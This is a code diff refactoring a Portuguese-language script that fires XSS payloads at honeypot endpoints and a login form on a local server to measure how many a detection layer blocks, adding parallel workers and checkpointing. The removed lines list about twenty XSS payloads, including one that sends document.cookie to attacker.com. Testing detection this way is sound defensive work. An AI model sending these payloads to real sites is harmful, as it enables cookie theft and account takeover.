@@ -3,56 +3,20 @@ Script de Ataque Controlado - Cross-Site Scripting (XSS)
 Testa a detecção de tentativas de XSS
 """
 
-import requests
-import time
 from typing import List
 import argparse
 
-BASE_URL = "http://localhost:3000"
-
-# Payloads comuns de XSS
-XSS_PAYLOADS = [
-    # Basic XSS
-    "<script>alert('XSS')</script>",
-    "<img src=x onerror=alert('XSS')>",
-    "<svg/onload=alert('XSS')>",
-    
-    # Event handlers
-    "<body onload=alert('XSS')>",
-    "<input onfocus=alert('XSS') autofocus>",
-    "<select onfocus=alert('XSS') autofocus>",
-    "<textarea onfocus=alert('XSS') autofocus>",
-    "<iframe onload=alert('XSS')>",
-    
-    # JavaScript protocols
-    "<a href='javascript:alert(\"XSS\")'>Click</a>",
-    "<img src='javascript:alert(\"XSS\")'>",
-    
-    # Advanced payloads
-    "<script>document.cookie</script>",
-    "<script>fetch('http://attacker.com?cookie='+document.cookie)</script>",
-    "'-alert(String.fromCharCode(88,83,83))-'",
-    "\"><script>alert(String.fromCharCode(88,83,83))</script>",
-    
-    # Encoded
-    "%3Cscript%3Ealert('XSS')%3C/script%3E",
-    "&#60;script&#62;alert('XSS')&#60;/script&#62;",
-    
-    # DOM-based
-    "<img src=x onerror=\"javascript:alert(1)\">",
-    "<svg><script>alert('XSS')</script></svg>",
-    
-    # Bypass attempts
-    "<scr<script>ipt>alert('XSS')</scr</script>ipt>",
-    "<img src=x oneonerrorrror=alert('XSS')>",
-]
+from harness import AttackRequest, AttackResult, LoadEngine
+from harness import JobRun, Shard, add_engine_arguments, print_engine_stats, run_job
+from harness.checkpoint import print_checkpoint_hint
+from harness.payloads import HONEYPOT_ENDPOINTS, XSS_PAYLOADS
 
 
-def test_xss_honeypot(payloads: List[str], delay: float = 0):
+def test_xss_honeypot(engine: LoadEngine, payloads: List[str]):
     """
     Testa XSS nos honeypots
     """
-    honeypots = ["/admin", "/debug", "/.env", "/db"]
+    honeypots = HONEYPOT_ENDPOINTS
     
     print(f"\n🟠 Testando XSS - Honeypot Endpoints")
     print(f"   Payloads: {len(payloads)} x {len(honeypots)} endpoints\n")
@@ -62,46 +26,53 @@ def test_xss_honeypot(payloads: List[str], delay: float = 0):
         "blocked": 0,
         "errors": 0,
     }
+    results = engine.checkpointed("xss-honeypot", results)
 
-    for endpoint in honeypots:
-        for idx, payload in enumerate(payloads, 1):
-            try:
-                results["total_attempts"] += 1
-
-                # Testa com payload na query string
-                response = requests.get(
-                    f"{BASE_URL}{endpoint}?search={payload}&input={payload}",
-                    timeout=5,
-                )
-
-                if response.status_code == 403:
-                    results["blocked"] += 1
-                    status = "🛡️  BLOCKED"
-                elif response.status_code < 500:
-                    status = "⚠️  NOT BLOCKED"
-                else:
-                    status = "❌ ERROR"
-                    results["errors"] += 1
-
-                print(f"   [{idx:2d}/{len(payloads)}] {endpoint:10s} | {status}")
-                
-                time.sleep(delay)
-
-            except requests.exceptions.Timeout:
-                results["errors"] += 1
-                print(f"   [{idx:2d}/{len(payloads)}] {endpoint:10s} | ⏱️  TIMEOUT")
-            except Exception as e:
-                results["errors"] += 1
-                print(f"   [{idx:2d}/{len(payloads)}] {endpoint:10s} | ❌ {str(e)[:40]}")
+    def handle(result: AttackResult) -> None:
+        idx = result.request.meta["index"]
+        endpoint = result.request.meta["endpoint"]
+        results["total_attempts"] += 1
+
+        if result.timed_out:
+            results["errors"] += 1
+            engine.console.log(f"   [{idx:2d}/{len(payloads)}] {endpoint:10s} | ⏱️  TIMEOUT")
+            return
+        if result.error is not None:
+            results["errors"] += 1
+            engine.console.log(f"   [{idx:2d}/{len(payloads)}] {endpoint:10s} | ❌ {str(result.error)[:40]}")
+            return
+
+        if result.status == 403:
+            results["blocked"] += 1
+            status = "🛡️  BLOCKED"
+        elif result.status < 500:
+            status = "⚠️  NOT BLOCKED"
+        else:
+            status = "❌ ERROR"
+            results["errors"] += 1
+
+        engine.console.log(f"   [{idx:2d}/{len(payloads)}] {endpoint:10s} | {status}")
+
+    # Testa com payload na query string
+    requests = (
+        AttackRequest(
+            "GET",
+            f"{endpoint}?search={payload}&input={payload}",
+            meta={"index": idx, "endpoint": endpoint},
+        )
+        for endpoint in honeypots
+        for idx, payload in enumerate(payloads, 1)
+    )
+    engine.run(requests, handle, phase="xss-honeypot")
 
     return results
 
 
-def test_xss_post_data(payloads: List[str], delay: float = 0):
+def test_xss_post_data(engine: LoadEngine, payloads: List[str]):
     """
     Testa XSS em POST data
     """
-    endpoint = f"{BASE_URL}/auth/login"
+    endpoint = "/auth/login"
     
     print(f"\n🟠 Testando XSS - POST Data")
     print(f"   Payloads: {len(payloads)}\n")
@@ -111,41 +82,67 @@ def test_xss_post_data(payloads: List[str], delay: float = 0):
         "blocked": 0,
         "errors": 0,
     }
+    results = engine.checkpointed("xss-post", results)
+
+    def handle(result: AttackResult) -> None:
+        idx = result.request.meta["index"]
+        results["total_attempts"] += 1
 
-    for idx, payload in enumerate(payloads, 1):
-        try:
-            results["total_attempts"] += 1
-
-            # Testa no campo email
-            response = requests.post(
-                endpoint,
-                json={"email": payload, "password": "test123"},
-                timeout=5,
-            )
-
-            if response.status_code == 403:
-                results["blocked"] += 1
-                status = "🛡️  BLOCKED"
-            elif response.status_code == 401:
-                status = "⚠️  NOT BLOCKED (401)"
-            else:
-                status = f"⚠️  NOT BLOCKED ({response.status_code})"
-
-            print(f"   [{idx:2d}/{len(payloads)}] Email field | {status}")
-            
-            time.sleep(delay)
-
-        except requests.exceptions.Timeout:
+        if result.timed_out:
             results["errors"] += 1
-            print(f"   [{idx:2d}/{len(payloads)}] Email field | ⏱️  TIMEOUT")
-        except Exception as e:
+            engine.console.log(f"   [{idx:2d}/{len(payloads)}] Email field | ⏱️  TIMEOUT")
+            return
+        if result.error is not None:
             results["errors"] += 1
-            print(f"   [{idx:2d}/{len(payloads)}] Email field | ❌ {str(e)[:40]}")
+            engine.console.log(f"   [{idx:2d}/{len(payloads)}] Email field | ❌ {str(result.error)[:40]}")
+            return
+
+        if result.status == 403:
+            results["blocked"] += 1
+            status = "🛡️  BLOCKED"
+        elif result.status == 401:
+            status = "⚠️  NOT BLOCKED (401)"
+        else:
+            status = f"⚠️  NOT BLOCKED ({result.status})"
+
+        engine.console.log(f"   [{idx:2d}/{len(payloads)}] Email field | {status}")
+
+    # Testa no campo email
+    requests = (
+        AttackRequest(
+            "POST",
+            endpoint,
+            json={"email": payload, "password": "test123"},
+            meta={"index": idx},
+        )
+        for idx, payload in enumerate(payloads, 1)
+    )
+    engine.run(requests, handle, phase="xss-post")
 
     return results
 
 
-def print_summary(results: dict):
+def run_attack(engine: LoadEngine, args: argparse.Namespace, shard: Shard, all_results: dict):
+    """
+    Executa os modos selecionados sobre a fatia de payloads deste worker
+    """
+    payloads = XSS_PAYLOADS[: args.count] if args.count else XSS_PAYLOADS
+    payloads = list(shard.take(payloads))
+
+    if args.mode in ["all", "honeypot"]:
+        results = test_xss_honeypot(engine, payloads)
+        all_results["total_attempts"] += results["total_attempts"]
+        all_results["blocked"] += results["blocked"]
+        all_results["errors"] += results["errors"]
+
+    if args.mode in ["all", "post"]:
+        results = test_xss_post_data(engine, payloads)
+        all_results["total_attempts"] += results["total_attempts"]
+        all_results["blocked"] += results["blocked"]
+        all_results["errors"] += results["errors"]
+
+
+def print_summary(results: dict, run: JobRun = None):
     """
     Exibe resumo dos resultados
     """
@@ -160,6 +157,11 @@ def print_summary(results: dict):
         block_rate = (results['blocked'] / results['total_attempts']) * 100
         print(f"\nTaxa de Bloqueio:    {block_rate:.1f}%")
     
+    if run is not None:
+        print()
+        print_engine_stats(run.totals)
+        run.report.print()
+
     print("=" * 50 + "\n")
 
 
@@ -185,16 +187,17 @@ def main():
         help="Número de payloads a usar (padrão: todos)",
     )
 
-    args = parser.parse_args()
+    add_engine_arguments(parser)
 
-    payloads = XSS_PAYLOADS[: args.count] if args.count else XSS_PAYLOADS
+    args = parser.parse_args()
 
     print("\n" + "=" * 50)
     print("🎯 XSS ATTACK SIMULATOR")
     print("=" * 50)
-    print(f"Target: {BASE_URL}")
+    print(f"Target: {args.base_url}")
     print(f"Mode:   {args.mode}")
     print(f"Delay:  {args.delay}s")
+    print(f"Workers: {args.workers}")
     print("=" * 50)
 
     all_results = {
@@ -204,23 +207,13 @@ def main():
     }
 
     try:
-        if args.mode in ["all", "honeypot"]:
-            results = test_xss_honeypot(payloads, args.delay)
-            all_results["total_attempts"] += results["total_attempts"]
-            all_results["blocked"] += results["blocked"]
-            all_results["errors"] += results["errors"]
-
-        if args.mode in ["all", "post"]:
-            results = test_xss_post_data(payloads, args.delay)
-            all_results["total_attempts"] += results["total_attempts"]
-            all_results["blocked"] += results["blocked"]
-            all_results["errors"] += results["errors"]
-
-        print_summary(all_results)
+        run = run_job(args, run_attack, all_results)
+        print_summary(all_results, run)
 
     except KeyboardInterrupt:
         print("\n\n⚠️  Ataque interrompido pelo usuário")
         print_summary(all_results)
+        print_checkpoint_hint(args)
 
 
 if __name__ == "__main__":